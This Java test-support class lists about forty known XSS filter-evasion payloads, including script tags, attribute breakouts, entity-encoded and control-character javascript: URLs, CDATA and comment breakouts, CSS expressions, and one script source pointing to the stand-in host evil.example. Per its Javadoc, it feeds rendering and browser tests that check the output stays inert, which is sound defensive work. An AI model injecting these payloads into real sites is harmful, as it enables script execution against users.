package dev.aether.web.testing;

import java.util.List;

/**
 * Known XSS payloads (OWASP filter-evasion style): script tags, attribute breakouts,
 * {@code javascript:} URLs with case, entity, whitespace and control-character tricks, comment and
 * CDATA breakouts, CSS {@code expression}/{@code url()}. One list for the SSR test (read by a
 * tokenizer) and the browser tests (run by Chromium).
 *
 * <pre>{@code
 * for (String payload : XssPayloadList.known()) { assertInert(Ssr.render(p(text(payload)))); }
 * }</pre>
 */
public final class XssPayloadList {
    private static final List<String> KNOWN = List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "\"><img src=x onerror=alert(1)>",
                "'><svg onload=alert(1)>",
                "\" autofocus onfocus=\"alert(1)",
                "' onmouseover='alert(1)",
                "javascript:alert(1)",
                "JaVaScRiPt:alert(1)",
                " \t\njavascript:alert(1)",
                "java\tscript:alert(1)",
                "java\nscript:alert(1)",
                "java\rscript:alert(1)",
                "\u0001javascript:alert(1)",
                "javascript&#58;alert(1)",
                "javascript&colon;alert(1)",
                "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
                "&#x6A;avascript:alert(1)",
                "vbscript:msgbox(1)",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "data:image/svg+xml,<svg onload=alert(1)>",
                "</textarea><script>alert(1)</script>",
                "</title><script>alert(1)</script>",
                "</option><script>alert(1)</script>",
                "<!--<script>alert(1)</script>-->",
                "--><script>alert(1)</script>",
                "<!--",
                "]]><script>alert(1)</script>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "\u2028alert(1)\u2029",
                "</script><script>alert(1)</script>",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<img src=\"x\" onerror=\"alert(1)\">",
                "<svg><script>alert&#40;1&#41;</script>",
                "expression(alert(1))",
                "red;background:url(javascript:alert(1))",
                "x\" style=\"x:expression(alert(1))",
                "\0<script>alert(1)</script>",
                "<style>@import 'javascript:alert(1)';</style>",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">");

    private XssPayloadList() {
    }

    public static List<String> known() {
        return KNOWN;
    }
}
